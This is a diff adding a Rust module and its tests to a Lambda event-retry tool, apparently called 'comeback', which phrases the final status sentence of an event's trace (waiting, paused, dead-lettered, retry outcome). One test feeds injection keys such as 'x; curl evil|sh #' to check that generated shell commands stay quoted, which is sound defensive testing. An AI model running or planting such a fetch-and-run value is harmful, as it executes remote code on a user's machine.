@@ -1,0 +1,277 @@
+//! The last sentence of a timeline: what is known of the event's end, and no more.
+
+use comeback_engine::{HOLD, Timestamp, WaitsFor, What};
+
+use crate::command::CommandName;
+use crate::deployment::Unlisted;
+use crate::durations::short;
+use crate::pauses::in_force::InForce;
+use crate::text;
+use crate::text::{Text, Tone, quoted};
+use crate::trace::Trace;
+use crate::trace::logs::Report;
+use crate::trace::story::{End, Happened, Step};
+
+impl Trace {
+    /// What is known of its end, and no more.
+    pub fn ending(&self) -> Text {
+        if let Some(text) = self.by_allow_list().or_else(|| self.by_pauses()) {
+            return text;
+        }
+        let doctor = || quoted(self.deployment.command(CommandName::Doctor, [""; 0]));
+        match &self.story.end {
+            End::Waits(WaitsFor::Due { due, .. }) if *due > self.now => {
+                text!["Waiting. The next retry is due in ", self.until(*due), "."]
+            }
+            End::Waits(WaitsFor::Due { due, .. }) => {
+                let late = format!("The next retry has been due for {}. ", self.since(*due));
+                text![late, doctor(), " says whether retries run."]
+            }
+            End::Waits(WaitsFor::Resume) => text!["Its function is paused. ", self.who_paused()],
+            End::Waits(WaitsFor::NextTry { .. }) => "It is kept; the handler will try again.".into(),
+            End::DeadLettered => self.dead_lettered(),
+            End::Invoked { request_id, at } => {
+                let report = self.invocation(request_id.as_deref()).map(|invocation| &invocation.report);
+                self.after_retry(*at, report)
+            }
+        }
+    }
+
+    fn since(&self, moment: Timestamp) -> String {
+        short(self.now.since(moment).as_secs_f64())
+    }
+
+    fn until(&self, moment: Timestamp) -> String {
+        short(moment.since(self.now).as_secs_f64())
+    }
+
+    fn who_paused(&self) -> Text {
+        let list = quoted(self.deployment.command(CommandName::Pause, ["--list"]));
+        text![list, " shows who paused it, and why."]
+    }
+
+    /// The meaning of the pauses in force for a waiting event, if they decide when it is retried.
+    fn by_pauses(&self) -> Option<Text> {
+        let end = &self.story.end;
+        let due = if let End::Waits(WaitsFor::Due { due, .. }) = end { Some(*due) } else { None };
+        match self.pause? {
+            pause @ InForce::Paused { until } if pause.holds(due) => {
+                let until = until.map(|until| text![" until ", until]).unwrap_or_default();
+                Some(text!["Its function is paused", until, ". ", self.who_paused()])
+            }
+            InForce::NotPaused { back_by } if *end == End::Waits(WaitsFor::Resume) => {
+                let back_by = back_by.unwrap_or_else(|| self.now.saturating_add(HOLD));
+                let resumed = "Its function was resumed";
+                if back_by >= self.now {
+                    let within = self.until(back_by);
+                    return Some(format!("{resumed}. The next retry comes within {within}.").into());
+                }
+                let late =
+                    format!("{resumed}, and the next retry has been due for {}. ", self.since(back_by));
+                let doctor = quoted(self.deployment.command(CommandName::Doctor, [""; 0]));
+                Some(text![late, doctor, " says whether retries run."])
+            }
+            InForce::Paused { .. } | InForce::NotPaused { .. } => None,
+        }
+    }
+
+    /// The fate of a waiting event whose function is not on the allow-list. No pause holds it then.
+    fn by_allow_list(&self) -> Option<Text> {
+        let dead_lettered =
+            "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
+        let fate = match (self.not_allowed?, &self.story.end) {
+            (Unlisted::DeadLettered, End::Waits(WaitsFor::Due { due, .. })) if *due > self.now => {
+                format!("{dead_lettered} within {}.", self.until(*due))
+            }
+            (Unlisted::DeadLettered, _) => format!("{dead_lettered} when the handler next receives it."),
+            (Unlisted::Kept, _) => "It is kept but not retried, because the allow-list is empty.".into(),
+        };
+        let attach = self.deployment.attach_commands([&*self.story.target]);
+        Some(text![format!("{fate} To retry it: "), attach, "."])
+    }
+
+    fn dead_lettered(&self) -> Text {
+        let step = self.story.steps.iter().rfind(|step| step.is_dead_letter());
+        let at = step.map(|step| text![" at ", step.at]).unwrap_or_default();
+        // Whoever sent the event may have chosen its key.
+        let key = &*self.story.key;
+        let words = if key.starts_with('-') { vec!["--", key] } else { vec![key] };
+        let show = quoted(self.deployment.command(CommandName::DeadShow, words));
+        text!["Dead-lettered", at, ". To see whether it is still there: ", show]
+    }
+
+    /// What is known after a retry that no failure has followed: a success leaves no line in the handler's log.
+    fn after_retry(&self, at: Timestamp, report: Option<&Report>) -> Text {
+        let retry = |step: &Step| match &step.happened {
+            Happened::Logged(What::Reinvoke { .. }) => Some(format!("Retry {}", step.event.retry)),
+            _ => None,
+        };
+        let retry = self.story.steps.iter().rev().find_map(retry);
+        let retry = retry.unwrap_or_else(|| "The last retry".into());
+        let unknown = |why: &str| {
+            let ago = self.since(at);
+            Text::toned(
+                Tone::Warning,
+                format!("{retry} was invoked {ago} ago, and no failure followed. {why}"),
+            )
+        };
+        match report {
+            Some(Report::Seen { at: end, status: Some(status) }) if status != "success" => {
+                let status =
+                    format!(" with status {status}, and its failure has not reached the handler yet.");
+                Text::toned(Tone::Bad, text![format!("{retry} ended at "), *end, status])
+            }
+            Some(Report::Seen { at: end, .. }) => {
+                let no_failure = format!(", and no failure followed in {}.", self.since(*end));
+                let succeeded = format!("{retry} probably succeeded: it ended at ");
+                Text::toned(Tone::Good, text![succeeded, *end, no_failure])
+            }
+            Some(Report::NotSeen) => unknown("The function's log has no REPORT line of it yet."),
+            Some(Report::Unread { why }) => unknown(&format!("The function's log is unreadable: {why}.")),
+            None => unknown("The invocation's request id is unknown, so its log was not searched."),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::deployment::Deployment;
+    use crate::trace::logs::Invocation;
+    use crate::trace::tests::{at, dead_letters, due, holds, invoked, trace};
+
+    /// The last sentence at a second.
+    fn ending(trace: Trace, second: u64) -> String {
+        let deployment = Deployment { stack: Some("shop".into()), ..Deployment::sample() };
+        Trace { now: at(second), deployment, ..trace }.ending().to_string()
+    }
+
+    #[test]
+    fn a_key_cannot_command_the_shell() {
+        for (key, shown) in
+            [("x; curl evil|sh #", "x; curl evil|sh #"), ("a\0`b`$c", "a\\u{0}`b`$c"), ("-k'", "-k'")]
+        {
+            let mut trace = trace(&[], End::DeadLettered, Vec::new());
+            trace.story.key = key.into();
+            let text = ending(trace, 64);
+            let (_, command) = text.split_once("To see whether it is still there: `").unwrap();
+            let words = shlex::split(command.strip_suffix('`').unwrap()).unwrap();
+            let words: Vec<_> = words.iter().map(String::as_str).collect();
+            if key.starts_with('-') {
+                assert_eq!(words, ["comeback", "dead", "show", "--stack", "shop", "--", shown]);
+            } else {
+                assert_eq!(words, ["comeback", "dead", "show", shown, "--stack", "shop"]);
+            }
+        }
+    }
+
+    #[test]
+    fn the_pauses_in_force_count_and_not_those_of_the_log() {
+        let last = |end, pause| {
+            let trace = Trace { pause: Some(pause), ..trace(&[(0, holds())], end, vec![]) };
+            ending(trace, 10)
+        };
+        let (held, kept) = (End::Waits(WaitsFor::Resume), kept());
+        let paused = |until: Option<u64>| InForce::Paused { until: until.map(at) };
+        let not_paused = |back_by: Option<u64>| InForce::NotPaused { back_by: back_by.map(at) };
+        let listed = "`comeback pause --list --stack shop` shows who paused it, and why.";
+        let until = format!("Its function is paused until 2026-09-14T16:33:20.000Z. {listed}");
+        assert_eq!(last(due(70), paused(Some(3_600))), until);
+        assert_eq!(last(kept, paused(None)), format!("Its function is paused. {listed}"));
+        let waits = "Waiting. The next retry is due in 1m.";
+        assert_eq!(last(due(70), paused(Some(60))), waits);
+        assert_eq!(last(due(70), not_paused(Some(60))), waits);
+        let resumed = "Its function was resumed. The next retry comes within";
+        assert_eq!(last(held.clone(), not_paused(Some(70))), format!("{resumed} 1m."));
+        assert_eq!(last(held.clone(), not_paused(None)), format!("{resumed} 22m 24s."));
+        let late = "Its function was resumed, and the next retry has been due for 5s.";
+        assert!(last(held, not_paused(Some(5))).starts_with(late));
+    }
+
+    fn kept() -> End {
+        End::Waits(WaitsFor::NextTry { cause: comeback_engine::Cause::Refused, at: None })
+    }
+
+    #[test]
+    fn an_event_off_the_allow_list_is_said_not_to_be_retried() {
+        let said = |unlisted, end| {
+            let mut trace = trace(&[(0, holds())], end, vec![]);
+            trace.story.target = "arn:aws:lambda:eu-west-1:123456789012:function:orders:$LATEST".into();
+            (trace.not_allowed, trace.pause) = (unlisted, Some(InForce::Paused { until: None }));
+            ending(trace, 10)
+        };
+        let held = End::Waits(WaitsFor::Resume);
+        let not_allowed =
+            "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
+        let attach = "To retry it: `comeback attach orders --stack shop` (if the function moved to another \
+                      stack, see docs/attach.md).";
+        let received = format!("{not_allowed} when the handler next receives it. {attach}");
+        let kept = format!("It is kept but not retried, because the allow-list is empty. {attach}");
+        for (unlisted, end, expected) in [
+            (Unlisted::DeadLettered, due(70), format!("{not_allowed} within 1m. {attach}")),
+            (Unlisted::DeadLettered, due(0), received.clone()),
+            (Unlisted::DeadLettered, held.clone(), received),
+            (Unlisted::Kept, due(70), kept),
+        ] {
+            assert_eq!(said(Some(unlisted), end), expected);
+        }
+        assert!(said(None, held).starts_with("Its function is paused."));
+    }
+
+    #[test]
+    fn the_last_sentence_says_what_is_known_and_no_more() {
+        for (line, end, expected) in [
+            (holds(), due(70), "Waiting. The next retry is due in 1m."),
+            (
+                holds(),
+                due(0),
+                "The next retry has been due for 10s. `comeback doctor --stack shop` says whether retries run.",
+            ),
+            (
+                holds(),
+                End::Waits(WaitsFor::Resume),
+                "Its function is paused. `comeback pause --list --stack shop` shows who paused it, and why.",
+            ),
+            (holds(), kept(), "It is kept; the handler will try again."),
+            (
+                dead_letters(),
+                End::DeadLettered,
+                "Dead-lettered at 2026-09-14T15:33:20.000Z. To see whether it is still there: `comeback dead \
+                 show k-1 --stack shop`",
+            ),
+        ] {
+            assert_eq!(ending(trace(&[(0, line)], end, vec![]), 10), expected);
+        }
+        let seen = |status: Option<&str>| Report::Seen { at: at(5), status: status.map(ToOwned::to_owned) };
+        let succeeded = "Retry 1 probably succeeded: it ended at 2026-09-14T15:33:25.000Z, and no failure followed in 5s.";
+        for (report, expected) in [
+            (seen(None), succeeded),
+            (seen(Some("success")), succeeded),
+            (
+                seen(Some("timeout")),
+                "Retry 1 ended at 2026-09-14T15:33:25.000Z with status timeout, and its failure has not \
+                 reached the handler yet.",
+            ),
+            (
+                Report::NotSeen,
+                "Retry 1 was invoked 10s ago, and no failure followed. The function's log has no REPORT line \
+                 of it yet.",
+            ),
+            (
+                Report::Unread { why: "denied".into() },
+                "Retry 1 was invoked 10s ago, and no failure followed. The function's log is unreadable: \
+                 denied.",
+            ),
+        ] {
+            let invocation = Invocation { request_id: "r-1".into(), report, lines: Vec::new() };
+            let end = End::Invoked { request_id: Some("r-1".into()), at: at(0) };
+            assert_eq!(ending(trace(&[(0, invoked())], end, vec![invocation]), 10), expected);
+        }
+        let end = End::Invoked { request_id: None, at: at(0) };
+        assert_eq!(
+            ending(trace(&[(0, invoked())], end, vec![]), 10),
+            "Retry 1 was invoked 10s ago, and no failure followed. The invocation's request id is unknown, so \
+             its log was not searched."
+        );
+    }
+}
